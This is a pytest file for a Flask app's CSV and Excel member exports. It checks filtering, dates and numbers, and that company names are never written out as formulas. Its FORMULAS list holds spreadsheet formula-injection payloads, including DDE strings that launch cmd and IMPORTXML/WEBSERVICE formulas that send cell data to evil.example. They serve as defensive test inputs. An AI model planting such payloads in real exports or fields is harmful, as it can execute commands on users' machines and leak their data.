"""Members as CSV and Excel files: exactly the filtered ones, and no name is ever a formula."""

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook
from werkzeug.test import TestResponse

from dnk_tool.domain.declarations.states import State
from dnk_tool.domain.permissions import ClusterRole
from dnk_tool.report.files import spreadsheet
from tests.support.app import database_session, make_cluster
from tests.support.browsers import signed_in
from tests.support.cockpit_members import (
    YEAR,
    add_company,
    add_declaration,
    add_kinds,
    add_many,
    default_cohort,
    publish_member,
)

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","Klick")',
    '=IMPORTXML(CONCAT("http://evil.example?v=", A1), "//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\tABC",
    "\r=1+1",
    "\rABC",
    "\n=1+1",
    " =1+1",
    "   @A1",
    "\u00a0=1+1",
    "\u3000+1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠A1",
    "=",
    "-",
    '="a";"b"',
    "=1+1;=2+2",
    "\r\n=1+1",
]
HARMLESS = [
    "-3,5",
    "+49",
    "'=1+1",
    "Müller & Söhne; GmbH",
    'Die "Gute" AG',
    "a=b",
    "Zeile\nzwei",
    "1.234,5",
    "https://example.org",
    "mailto:a@example.org",
    "0049",
    '"=1+1"',
]


@pytest.fixture
def cluster_id(app: Flask) -> int:
    with database_session(app) as session:
        return make_cluster(session, "Cluster Nord/Ost", manager=ClusterRole.MANAGER).id


@pytest.fixture
def manager(app: Flask, cluster_id: int) -> FlaskClient:
    return signed_in(app, "manager")


def csv_rows(answer: TestResponse) -> list[list[str]]:
    assert answer.data.startswith(b"\xef\xbb\xbf")
    text = answer.data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def xlsx_rows(content: bytes) -> list[list[object]]:
    [sheet] = CalamineWorkbook.from_filelike(io.BytesIO(content)).sheet_names
    return CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name(sheet).to_python()


def test_there_are_thirty_payloads() -> None:
    assert len(set(FORMULAS)) == 30


@pytest.mark.usefixtures("one_day")
def test_no_company_is_a_formula(app: Flask, manager: FlaskClient, cluster_id: int) -> None:
    names = FORMULAS + HARMLESS
    with database_session(app) as session:
        for name in names:
            add_company(session, cluster_id, name, joined_at=datetime.now(UTC))
    rows = csv_rows(manager.get(f"/cluster/{cluster_id}/uebersicht.csv"))[1:]
    expected = [f"'{name}" for name in FORMULAS] + HARMLESS
    assert sorted(row[0] for row in rows) == sorted(expected)
    last_year = str(datetime.now(UTC).year - 1)
    assert {tuple(row[1:2] + row[3:6]) for row in rows} == {(last_year, "0", "20", "0")}
    content = manager.get(f"/cluster/{cluster_id}/uebersicht.xlsx").data
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        xml = packed.read("xl/worksheets/sheet1.xml").decode()
        assert "xl/externalLinks" not in "".join(packed.namelist())
    assert "<f>" not in xml
    assert "hyperlink" not in xml
    cells = re.findall(r'<c r="A\d+"[^>]*t="(\w+)"', xml)
    assert cells == ["s"] * (len(names) + 1), "every name is a text"
    company_names = [str(row[0]).replace("\r", "\n") for row in xlsx_rows(content)[1:]]
    assert sorted(company_names) == sorted(name.replace("\r", "\n") for name in names)


def test_the_files_hold_exactly_what_the_filter_finds(
    app: Flask, manager: FlaskClient, cluster_id: int
) -> None:
    with database_session(app) as session:
        add_many(session, cluster_id, 130, now=datetime.now(UTC))
    for query in ("", "stand=submitted", "aufgabe=silent&sortierung=done&richtung=ab", "suche=05"):
        listed: list[str] = []
        for number in (1, 2, 3):
            html = manager.get(f"/cluster/{cluster_id}/?{query}&seite={number}").text.split("<tbody")[-1]
            companies = re.findall(r'<th scope="row"[^>]*><a [^>]*>([^<]*)</a>', html)
            listed += [company for company in companies if company not in listed]
        rows = csv_rows(manager.get(f"/cluster/{cluster_id}/uebersicht.csv?{query}"))
        assert [row[0] for row in rows[1:]] == listed, query
        content = manager.get(f"/cluster/{cluster_id}/uebersicht.xlsx?{query}").data
        assert [row[0] for row in xlsx_rows(content)[1:]] == listed, query
    assert len(listed) == 12


def test_numbers_and_days_are_such(app: Flask, manager: FlaskClient, cluster_id: int) -> None:
    now = datetime.now(UTC)
    with database_session(app) as session:
        session.add(default_cohort(cluster_id=cluster_id, reporting_year=YEAR, due=date(2026, 3, 31)))
        company = add_company(session, cluster_id, "Beck", joined_at=datetime(2026, 1, 2, tzinfo=UTC))
        made = add_declaration(
            session,
            company,
            changed_at=datetime(2026, 2, 3, 23, 30, tzinfo=UTC),
            state=State.APPROVED,
            cluster_id=cluster_id,
            criteria_done=20,
        )
        publish_member(session, made, now=now)
        add_company(session, cluster_id, "Neu", joined_at=now)
    answer = manager.get(f"/cluster/{cluster_id}/uebersicht.csv")
    assert answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"] == "attachment; filename=Cluster-Nord-Ost-2025.csv"
    assert [row[:11] for row in csv_rows(answer)] == [
        [
            "Unternehmen",
            "Berichtsjahr",
            "Stand",
            "Kriterien fertig",
            "Kriterien",
            "Offene Anmerkungen",
            "Zuletzt geändert",
            "Frist",
            "Am Zug",
            "Aufgabe",
            "Öffentlich",
        ],
        ["Beck", "2025", "Veröffentlicht", "20", "20", "0", "2026-02-04", "2026-03-31", "", "", "ja"],
        ["Neu", "2025", "Noch nicht begonnen", "0", "20", "0", "", "", "Unternehmen", "", "nein"],
    ]
    file = manager.get(f"/cluster/{cluster_id}/uebersicht.xlsx")
    assert file.headers["Content-Disposition"].endswith("Cluster-Nord-Ost-2025.xlsx")
    heading, beck, neu = xlsx_rows(file.data)
    told = dict(zip(heading, beck, strict=True))
    assert told["Mitglied seit"] == date(2026, 1, 2)
    assert told["Leistungsindikatoren"] == "GRI – Global Reporting Initiative"
    assert beck[1:8] == [2025.0, "Veröffentlicht", 20.0, 20.0, 0.0, date(2026, 2, 4), date(2026, 3, 31)]
    assert neu[6] == ""


def test_the_files_say_what_there_is_to_do(app: Flask, manager: FlaskClient, cluster_id: int) -> None:
    with database_session(app) as session:
        add_kinds(session, cluster_id, now=datetime.now(UTC))
    expected = ["Warten auf Prüfung", "Überfällig, Still seit drei Wochen", "", "Überfällig", ""]
    assert [row[9] for row in csv_rows(manager.get(f"/cluster/{cluster_id}/uebersicht.csv"))[1:]] == expected
    content = manager.get(f"/cluster/{cluster_id}/uebersicht.xlsx").data
    assert [row[9] for row in xlsx_rows(content)[1:]] == expected


def test_an_empty_cluster_has_files_too(manager: FlaskClient, cluster_id: int) -> None:
    assert len(csv_rows(manager.get(f"/cluster/{cluster_id}/uebersicht.csv"))) == 1
    assert len(xlsx_rows(manager.get(f"/cluster/{cluster_id}/uebersicht.xlsx").data)) == 1


@given(st.text(max_size=30))
def test_whatever_the_text_it_is_read_back(text: str) -> None:
    read = list(
        csv.reader(
            io.StringIO(spreadsheet.to_csv(["a"], [[text, 7]]).decode("utf-8-sig"), newline=""), delimiter=";"
        )
    )
    [shown, number] = read[1]
    assert shown in (text, f"'{text}")
    assert number == "7"
    first = shown[:1]
    assert first not in ("=", "@", "\t", "\r", "\n") or not shown
    if first in ("+", "-"):
        assert re.fullmatch(r"[+-][0-9]+([.,][0-9]+)?", shown)


@pytest.mark.parametrize("name", ["a[b]:c*d?e/f\\g", "x" * 50, "'quoted'"])
def test_a_sheet_may_be_called_anything(name: str) -> None:
    [row] = xlsx_rows(spreadsheet.to_xlsx(name, ["Kopf"], [], language="de"))
    assert row == ["Kopf"]
